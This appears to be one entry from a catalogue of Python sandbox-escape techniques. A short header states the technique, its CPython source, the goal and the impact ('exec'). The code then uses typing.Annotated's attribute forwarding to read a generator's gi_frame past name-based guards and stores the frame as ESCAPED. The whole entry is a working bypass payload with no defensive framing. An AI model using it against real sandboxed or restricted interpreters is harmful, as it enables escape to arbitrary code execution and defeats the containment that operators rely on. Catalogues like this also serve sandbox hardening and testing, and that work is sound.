# technique: typing's generic aliases forward attribute reads to what they were made of
# source: CPython 3.12 Lib/typing.py, _BaseGenericAlias.__getattr__
# goal: a frame, read by library code under a name that no guard has seen
# impact: exec
from typing import Annotated
def g():
    yield 1
frame = Annotated[g(), 1].__getattr__('gi_frame')
if frame is not None:
    ESCAPED = frame
